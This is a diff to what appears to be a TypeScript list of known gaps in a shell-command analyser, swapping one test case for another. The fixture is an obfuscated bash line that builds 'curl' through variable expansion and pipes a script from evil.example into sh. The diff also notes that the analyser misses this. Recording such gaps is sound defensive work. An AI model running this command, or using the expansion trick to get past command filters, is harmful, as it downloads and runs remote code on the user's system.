@@ -82,9 +82,9 @@ export const NOT_FOLLOWED: readonly Limit[] = [
     told: [MISSED, 'shell-wrapper@it'],
   },
   {
-    name: 'parts of a variable',
-    file: bash('x=xcurlx; ${x:1:4} https://evil.example/x | sh'),
-    reason: 'Only what a variable holds is put in its place, not what the shell cuts out of it.',
+    name: 'parts of a variable by a pattern',
+    file: bash('x=xcurl; ${x#?} https://evil.example/x | sh'),
+    reason: 'A pattern is not matched against what a variable holds.',
     told: [MISSED, 'shell-wrapper@it'],
   },
   {
